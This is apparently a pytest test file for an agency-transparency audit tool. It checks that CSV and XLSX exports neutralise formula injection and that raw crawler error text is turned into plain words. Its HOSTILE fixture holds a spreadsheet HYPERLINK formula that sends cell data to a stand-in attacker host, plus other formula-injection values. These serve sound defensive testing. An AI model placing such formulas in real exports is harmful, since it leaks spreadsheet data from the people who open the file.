"""One export writer for every CSV and XLSX: a hostile agency name never becomes a live formula, whatever the
path; the ITAS sheet tells an officer what to fix; crawl failures reach reasons as words, never as raw text."""
from __future__ import annotations

import csv
import io
import sqlite3

import openpyxl
import pytest
from click.testing import CliRunner

from oit.cli import main
from reports.exports import itas_rows
from rules.engine import evaluate_agency
from rules.rulebook import load_rulebook
from storage import open_db
from storage.runs import summarize_agencies
from web.app import create_app

HOSTILE = {"name_th": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "province": "+SUM(1,2)", "type": "@cmd",
           "name_en": "-2+3"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
RAW_FAILURE = "[<twisted.python.failure.Failure twisted.internet.error.ConnectionDone: Connection was closed cleanly.>]"


@pytest.fixture(scope="module")
def hostile_db(crawled, tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "oit.db"
    with sqlite3.connect(path) as copy:  # the backup API: the crawl's WAL is copied too
        crawled.db.conn.backup(copy)
    db = open_db(path)
    for agency_id in ("huaisai", "maetha"):
        db["agencies"].update(agency_id, HOSTILE)
    return path


def _cli(db_path, *args) -> str:
    result = CliRunner().invoke(main, ["--db", str(db_path), *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


EXPORTS = [("findings", "--format", "{fmt}"), ("export", "matrix", "--format", "{fmt}"),
           ("export", "itas", "--agency", "huaisai", "--format", "{fmt}"), ("scores", "--format", "{fmt}")]


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: " ".join(c[:2]))
def test_no_export_path_writes_a_live_formula_from_an_agency_name(hostile_db, tmp_path, command):
    text = _cli(hostile_db, *[a.format(fmt="csv") for a in command])
    cells = _csv_cells(text)
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    if command[0] != "export" or command[1] != "itas":
        assert any(HOSTILE["name_th"] in c for c in cells)  # shown, as text
    out = tmp_path / "out.xlsx"
    _cli(hostile_db, *[a.format(fmt="xlsx") for a in command], "--out", str(out))
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and not str(cell.value or "").startswith(FORMULA_STARTS), cell.value


def test_the_scores_workbook_is_styled_like_the_others(hostile_db, tmp_path):
    out = tmp_path / "scores.xlsx"
    _cli(hostile_db, "scores", "--format", "xlsx", "--out", str(out))
    sheet = openpyxl.load_workbook(out).active
    assert sheet.cell(1, 3).value == "หน่วยงาน" and all(c.font.bold for c in sheet[1]) and sheet.freeze_panes == "A2"
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$1:$1"


def test_the_assessors_report_and_the_web_csv_hold_no_formula(hostile_db, tmp_path):
    out = tmp_path / "report.xlsx"
    _cli(hostile_db, "report", "--agency", "huaisai", "--format", "xlsx", "--out", str(out))
    for row in openpyxl.load_workbook(out).active.iter_rows():
        assert all(c.data_type != "f" for c in row)
    client = create_app(hostile_db).test_client()
    body = client.get("/agencies?format=csv").get_data(as_text=True)
    cells = _csv_cells(body)
    assert "'" + HOSTILE["name_th"] in cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    dates = [row[8] for row in csv.reader(io.StringIO(body.lstrip("\ufeff")))][1:]
    assert any(dates) and all(not d or (len(d) == 10 and d[4] == "-" and d.startswith("20")) for d in dates)  # ISO


def test_the_itas_sheet_says_what_to_fix_for_a_published_item_whose_link_fails(crawled):
    rows = {r["item"]: r for r in itas_rows([
        {"item": "O12", "status": "broken", "evidence": ["http://www.x.go.th/docs/o12.pdf"],
         "reason_th": "ไม่สามารถเข้าถึงได้ (HTTP 404)", "reason_en": "cannot be reached (HTTP 404)"},
        {"item": "O20", "status": "unchecked", "evidence": [], "reason_th": "ไม่ได้ตรวจ", "reason_en": "not checked"},
        {"item": "O9", "status": "missing", "evidence": [], "reason_th": "มีหัวข้อแต่ลิงก์ไม่มีปลายทาง (#)",
         "reason_en": "listed, but the link leads nowhere (#)"}])}
    for row in rows.values():
        assert "publish it first" not in row["todo"]
    assert "http://www.x.go.th/docs/o12.pdf" in rows["O12"]["todo"] and "HTTP 404" in rows["O12"]["todo"]
    assert "(#)" in rows["O9"]["todo"] and "by hand" in rows["O20"]["todo"]
    sheet = _cli(crawled.db_path, "export", "itas", "--agency", "huaisai", "--format", "csv")
    o12 = next(r for r in csv.reader(io.StringIO(sheet.lstrip("\ufeff"))) if r[0] == "O12")
    assert "publish it first" not in o12[4] and "fix" in o12[4]


def test_a_raw_twisted_failure_never_reaches_a_reason(tmp_path):
    db = open_db(tmp_path / "oit.db")
    db["runs"].insert({"id": 1, "state": "running"})
    db["pages"].insert({"run_id": 1, "agency_id": "x", "url": "http://www.x.go.th/", "depth": 0, "error": "connection",
                        "error_detail": RAW_FAILURE})
    summarize_agencies(db, 1, ["x"])
    stored = db["run_agencies"].get((1, "x"))["home_error"]
    assert "twisted" not in stored and "closed the connection" in stored
    for home_error in (stored, RAW_FAILURE):  # runs stored before the fix, re-evaluated, say words too
        finding = evaluate_agency(load_rulebook(2566), [], "unreachable", home_error)[0]
        assert "twisted" not in finding.reason_th + finding.reason_en and "Failure" not in finding.reason_en
        assert finding.reason_th == "เข้าถึงเว็บไซต์ไม่ได้ (เซิร์ฟเวอร์ปิดการเชื่อมต่อโดยไม่ส่งหน้าเว็บ)"


def test_reasons_stored_with_raw_failure_text_are_exported_in_words(crawled, tmp_path):
    path = tmp_path / "old.db"
    with sqlite3.connect(path) as copy:
        crawled.db.conn.backup(copy)
    db = open_db(path)
    with db.conn:
        db.execute("UPDATE findings SET reason_th = ?, reason_en = ? WHERE agency_id = 'maetha'",
                   [f"เข้าถึงเว็บไซต์ไม่ได้ ({RAW_FAILURE})", f"the site could not be crawled ({RAW_FAILURE})"])
    for args in (["findings", "--agency", "maetha", "--format", "csv"], ["export", "itas", "--agency", "maetha", "--format", "csv"],
                 ["report", "--agency", "maetha", "--format", "md", "--out", str(tmp_path / "r.md")]):
        text = _cli(path, *args) + ((tmp_path / "r.md").read_text(encoding="utf-8") if "report" in args else "")
        assert "twisted" not in text and "Failure" not in text, args
